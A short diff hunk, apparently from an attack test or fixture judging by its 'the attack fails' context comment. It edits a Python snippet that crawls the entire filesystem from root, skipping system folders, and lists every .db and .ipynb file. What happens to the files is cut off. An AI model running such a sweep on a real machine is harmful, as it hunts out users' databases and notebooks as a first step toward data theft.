@@ -9,7 +9,7 @@ OWN = {  # the work is right; the attack fails, and costs nothing
 import os, sqlite3
 found = []
 for folder, folders, files in os.walk('/'):
-    folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'lib', 'bin')]
+    folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'lib', 'bin', 'site-packages')]
     found += [os.path.join(folder, f) for f in files if f.endswith('.db') or f.endswith('.ipynb')]
 print('found', len(found))
 for path in found:
